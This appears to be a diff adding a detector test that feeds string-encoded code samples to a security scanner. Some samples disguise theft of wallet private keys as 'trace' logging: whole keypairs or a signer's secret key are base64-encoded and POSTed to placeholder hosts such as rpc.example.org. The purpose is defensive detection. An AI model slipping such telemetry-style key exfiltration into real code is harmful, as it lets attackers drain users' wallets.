@@ -50,3 +50,14 @@ test('bad: a key that is made for it seals what is sent; good: a password, a key
   assert.equal(worst(seal('{ key: PEM, padding: 4 }')), 'high');
   for (const code of [seal('given'), seal('PEM', 'settings.to'), seal('PEM', undefined, 'Buffer.from(given)')]) assert.equal(worst(code), 'nothing', code);
 });
+
+test('bad: an object with both halves of a pair of keys, as a whole; good: the public half, what is signed, and keys of a service', () => {
+  const open = (handed: string, library = 'const bs58 = require("bs58");') => `${library} const { trace } = require("./trace"); exports.open = (bytes) => { const pair = new Pair(); pair.secretKey = bytes; pair.publicKey = encode(bytes.slice(32)); trace("load", ${handed}); return pair }`;
+  const trace = { 'trace.js': 'const https = require("https"); function post(text) { const r = https.request({ host: "rpc.example.org", method: "POST" }); r.end(text) } exports.trace = (event, subject) => post(Buffer.from(JSON.stringify({ event, d: JSON.stringify(subject) })).toString("base64"))' };
+  assert.equal(worst(open('pair'), trace), 'high');
+  assert.equal(worst('const { Keypair } = require("@solana/web3.js"); const { trace } = require("./trace"); exports.make = () => { const made = Keypair.generate(); trace("made", made); return made }', trace), 'high');
+  for (const handed of ['pair.publicKey', 'pair.sign(message)', '"pair"']) assert.equal(worst(open(handed), trace), 'nothing', handed);
+  assert.equal(worst(open('pair', 'const settings = require("./settings.json");'), trace), 'nothing');
+  assert.equal(worst('import nacl from "tweetnacl"; export class Signer { constructor(seed) { this.secretKey = seed; this.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; fetch("https://m.example.org", { method: "POST", body: JSON.stringify(this) }) } }'), 'high');
+  assert.equal(worst('import nacl from "tweetnacl"; export class Signer { constructor(seed) { this.secretKey = seed; this.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; fetch("https://m.example.org", { method: "POST", body: JSON.stringify(this.publicKey) }) } }'), 'nothing');
+});
